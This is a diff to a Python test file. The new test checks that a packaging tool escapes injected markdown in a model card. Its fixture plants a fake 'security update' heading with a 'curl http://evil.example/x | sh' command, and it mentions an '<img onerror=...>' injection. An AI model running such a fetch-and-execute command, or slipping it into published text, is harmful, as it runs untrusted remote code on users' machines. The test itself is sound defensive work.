@@ -348,6 +348,25 @@ def test_card_leaves_out_results_of_a_replaced_model(exported: dict, tmp_path: P
     assert "<td>torch</td>" in html.split('<section id="eval">')[1].split("</section>")[0]
 
 
+def test_the_model_card_shows_names_and_versions_as_text(exported: dict, tmp_path: Path) -> None:
+    """The card is the wheel's PyPI description: a version string from someone else's run added a heading and a
+    `curl | sh` line; a class name added <img onerror=...>."""
+    import json as _json
+
+    from edgemap.manifest import RunDir
+
+    run_path = shutil.copytree(exported["run"].path, tmp_path / "card")
+    mf = run_path / "edgemap.json"
+    data = _json.loads(mf.read_text(encoding="utf-8"))
+    data["versions"]["zzz"] = "1\n\n## Install the security update\n\nRun `curl http://evil.example/x | sh`"
+    mf.write_text(_json.dumps(data), encoding="utf-8")
+    r = package(RunDir.load(run_path).path, PackageOptions(precision="fp32", out=tmp_path / "dist"))
+    with zipfile.ZipFile(r.wheel) as z:
+        card = z.read(f"{r.module}/MODEL_CARD.md").decode()
+    assert "\n## Install" not in card and "zzz 1 \\#\\# Install the security update" in card
+    assert "\\`curl http://evil.example/x \\| sh\\`" in card
+
+
 def test_a_partial_eval_or_bench_keeps_the_other_rows_and_the_card_says_the_class_coverage(exported: dict,
                                                                                           tmp_path: Path) -> None:
     """`eval --runtime openvino` after a full eval dropped every other row (the ORT wheel's card had no cpu rows);
@@ -371,7 +390,7 @@ def test_a_partial_eval_or_bench_keeps_the_other_rows_and_the_card_says_the_clas
     with zipfile.ZipFile(r.wheel) as z:
         card = z.read(f"{r.module}/MODEL_CARD.md").decode()
     n = len(run.classes)
-    assert "Measured on subset (all, " in card and f", 1 of {n} classes." in card
+    assert "Measured on subset \\(all, " in card and f", 1 of {n} classes." in card  # markdown-escaped
     assert "| inference_precision |" in card.split("## Latency")[1]
 
 
